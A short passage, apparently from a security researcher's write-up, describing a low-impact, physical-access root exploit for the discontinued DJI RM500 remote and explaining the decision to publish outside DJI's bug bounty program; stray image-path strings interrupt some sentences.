The exploit itself is has a relatively low impact, since it requires physical access to the device and requires theuser to accept a popup when connecting using ADB. Nevertheless, it can be very useful for research purposes in case you want to get root on the RM500 Remote to assist with further research on DJI drones.

The RM500 is no longer sold or supported by DJI, and is therefore considered out of scope on DJI's Bug Bounty Progam. Unfortunately, reporting a vulnerability using DJI's Bug Bounty Program prevents researchers from publishing their work without DJI's approval, and they don't list a security contact to report issues outside of their Bug Bounty Program. Given the low impact of this vulnerability, and the probably numerous vulnerabilitiesin Android 7 itself, Idecided to just publish my research.